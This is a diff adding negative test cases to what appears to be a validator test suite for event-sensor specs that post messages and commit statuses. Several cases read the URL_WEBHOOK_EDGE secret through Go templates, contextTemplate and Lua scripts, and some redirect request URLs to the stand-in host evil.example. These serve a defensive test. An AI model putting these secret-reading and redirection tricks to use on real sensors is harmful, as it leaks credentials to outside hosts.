@@ -201,6 +201,51 @@ describe("messages and commit statuses of a stack", function () {
           { src: { ...src, dataTemplate: "{{$x := (expandenv `$URL_WEBHOOK_EDGE`)}}" }, dest: "text" },
         ],
       })),
+      "write it after an assignment": slack((http) => ({
+        ...http,
+        payload: [{ src: { ...src, dataTemplate: '{{$x:=env "URL_WEBHOOK_EDGE"}}{{$x}}' }, dest: "text" }],
+      })),
+      "write it by a template over the Event's context": slack((http) => ({
+        ...http,
+        payload: [{ src: { ...src, contextTemplate: '{{ env "URL_WEBHOOK_EDGE" }}' }, dest: "text" }],
+      })),
+      "use an address of its own where an Event is missing": hidden((http) => ({
+        ...http,
+        parameters: http.parameters?.map((one) => {
+          const { src: own, dest } = one as { src: object; dest: string };
+          return { src: { ...own, dependencyName: "other", value: "https://evil.example" }, dest };
+        }),
+      })),
+      "change a request when an Event comes": (spec: Spec) => ({
+        ...spec,
+        triggers: spec.triggers.map((trigger) => ({
+          ...trigger,
+          parameters: [{ src: { ...src, value: "https://evil.example" }, dest: "http.url" }],
+        })),
+      }),
+      "trigger something else after a failure": (spec: Spec) => ({
+        ...spec,
+        triggers: spec.triggers.map((trigger) => ({ ...trigger, dlqTrigger: { template: { name: "x" } } })),
+      }),
+      ...Object.fromEntries(
+        [
+          { transform: { script: "event.body = os.getenv('URL_WEBHOOK_EDGE') return event" } },
+          { filters: { script: "return os.getenv('URL_WEBHOOK_EDGE') ~= ''" } },
+          {
+            filters: {
+              data: [
+                { path: "body", type: "string", value: ["x"], template: '{{ env "URL_WEBHOOK_EDGE" }}' },
+              ],
+            },
+          },
+        ].map((more) => [
+          `read it by ${JSON.stringify(more)}`,
+          (spec: Spec) => ({
+            ...spec,
+            dependencies: [{ name: "x", eventSourceName: "notify", eventName: "kargo", ...more }],
+          }),
+        ]),
+      ),
       "give the pod another Secret": (spec: Spec) => ({
         ...spec,
         template: {
